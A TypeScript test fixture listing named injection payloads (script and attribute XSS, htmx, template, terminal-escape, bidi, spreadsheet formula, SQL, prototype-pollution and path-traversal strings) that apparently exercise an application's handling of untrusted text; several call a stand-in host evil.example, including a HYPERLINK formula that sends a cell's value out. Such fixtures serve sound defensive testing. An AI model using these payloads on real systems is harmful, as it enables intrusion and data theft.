/** What a script of ours would set, were one of these ever run. */
export const MARK = '__ran'

const RUN = `window.${MARK}=1`

/**
 * Texts that do harm where somebody takes them for something else than text: markup, attributes, addresses, htmx,
 * templates, terminals, spreadsheets, databases, objects. Each a name and the text.
 */
export const PAYLOADS: Readonly<Record<string, string>> = {
  script: `<script>${RUN}</script>`,
  'script that ends another': `</script><script>${RUN}</script>`,
  image: `<img src=x onerror="${RUN}">`,
  svg: `<svg/onload=${RUN}>`,
  'end of a comment': `--><svg onload=${RUN}>`,
  'end of a title': `</title></textarea></style><img src=x onerror=${RUN}>`,
  'double quote': `" autofocus onfocus="${RUN}" x="`,
  'single quote': `' autofocus onfocus='${RUN}' x='`,
  'no quotes': `x onmouseover=${RUN} autofocus onfocus=${RUN}`,
  entities: `&lt;img src=x onerror=${RUN}&gt;&#60;script&#62;${RUN}&#60;/script&#62;`,
  javascript: `javascript:${RUN}//`,
  'javascript in disguise': `JaVaScRiPt\u0001:${RUN}`,
  'data address': `data:text/html,<script>${RUN}</script>`,
  'address without scheme': '//evil.example/x',
  frame: `<iframe srcdoc="<script>parent.${MARK}=1</script>"></iframe>`,
  'base and form':
    '<base href="https://evil.example/"><form action="https://evil.example/"><button>',
  style: `<style>@import 'https://evil.example/x.css'</style><link rel=stylesheet href=https://evil.example/x.css>`,
  refresh: '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  htmx: `<div hx-get="https://evil.example/" hx-trigger="load" hx-on:load="${RUN}" data-hx-vals="js:{a:${RUN}}">x</div>`,
  'attribute for htmx': `" hx-on::load="${RUN}" hx-post="/api/dead/redrive" hx-trigger="load" x="`,
  template: '{{constructor.constructor("alert(1)")()}} ${alert(1)} <%= 7*7 %> #{7*7} %s %n %d {0}',
  'line for a terminal': '\u001b[2J\u001b]0;owned\u0007\u001b[31mred\u0000\r\nX-Injected: 1',
  bidirectional: '\u202Egnp.exe\u2066\u200B\u200F hidden\uFEFF',
  surrogate: 'half \uD800 of \uDC00 one',
  formula: '=HYPERLINK("https://evil.example/?"&A1,"open")',
  'formula by plus': `+cmd|' /C calc'!A0`,
  'formula by minus': '-2+3+cmd|calc',
  'formula by at': '@SUM(1+1)*cmd|calc',
  'formula after a tab': '\t=1+1',
  'formula after a return': '\r=1+1',
  'formula in full width': '＝1+1',
  'cells in one': 'a","=1+1\n=2+2;=3+3',
  sql: `'; DROP TABLE events; -- " OR 1=1`,
  like: '%_\\%',
  prototype: '__proto__',
  constructor: 'constructor',
  json: '"}],"__proto__":{"admin":true},"x":[{"',
  path: '../../../../etc/passwd%00',
  long: `${'wide'.repeat(150)} ${'a b '.repeat(80)}`,
  emoji: '👩‍👩‍👧‍👦'.repeat(40),
}

/** As browsers write it into a path or a query. */
export function inAddress(text: string): string {
  return new URLSearchParams({ x: text }).toString().slice(2).replaceAll('+', '%20')
}
